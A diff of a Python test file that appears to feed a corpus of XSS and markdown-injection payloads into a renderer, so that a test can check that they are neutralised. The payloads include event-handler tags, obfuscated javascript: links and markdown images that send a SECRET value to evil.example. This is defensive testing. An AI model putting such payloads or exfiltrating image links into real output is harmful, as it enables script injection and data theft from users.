@@ -8,26 +8,28 @@ from contextlib import contextmanager
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from typing import Any
 
-NAME = "<img src=x onerror=window.__pwned=1>"
+# CommonMark takes a tag for text whose unquoted value has a "=", so values are quoted.
+NAME = "<img src=x onerror='window.__pwned=1'>"
 CORPUS = (
     NAME,
     "<script>window.__pwned=1</script>",
-    "<svg onload=window.__pwned=1><use href='data:image/svg+xml,<svg/>'/></svg>",
+    "<svg onload='window.__pwned=1'><use href='data:image/svg+xml,<svg/>'/></svg>",
     "<iframe srcdoc='<script>parent.__pwned=1</script>'></iframe>",
     "<a href='javascript:window.__pwned=1'>a link</a>",
     "<style>@import url(https://evil.example/x.css)</style>",
     "<form action=https://evil.example><input name=q></form>",
-    "<details open ontoggle=window.__pwned=1>more</details>",
+    "<details open ontoggle='window.__pwned=1'>more</details>",
     "<link rel=stylesheet href=https://evil.example/y.css><meta http-equiv=refresh content='0;url=//evil.example'>",
     "[in clear](javascript:window.__pwned=1) [in data](data:text/html;base64,PHNjcmlwdD4=) [nowhere](//evil.example/)",
     "[mixed](JaVaScRiPt:window.__pwned=1) [entity](&#106;avascript:window.__pwned=1) <javascript:window.__pwned=1>",
-    "![the plan](https://evil.example/?q=SECRET) ![by name][plan]\n\n[plan]: https://evil.example/?q=SECRET",
+    "![the plan](https://evil.example/?q=SECRET)",
+    "[plan]: https://evil.example/?q=SECRET\n![by name][plan]",
     "[![both](https://evil.example/a.png)](javascript:window.__pwned=1)",
     "```mermaid\ngraph TD; A-->B; click A call window.__pwned()\n```",
     "$\\href{javascript:window.__pwned=1}{formula}$",
-    "- <b onmouseover=window.__pwned=1>a point</b>",
-    "| <img src=x onerror=window.__pwned=1> |\n|---|\n| [cell](javascript:window.__pwned=1) |",
-    "<button value=1 onclick=window.__pwned=1>press</button>",
+    "- <b onmouseover='window.__pwned=1'>a point</b>",
+    "| <img src=x onerror='window.__pwned=1'> |\n|---|\n| [cell](javascript:window.__pwned=1) |",
+    "<button value=1 onclick='window.__pwned=1'>press</button>",
 )
 ANSWER = "\n\n".join(("Dill and allspice go into the soup [1].", *CORPUS, "That is all."))
 PIECE_CHARS = 9
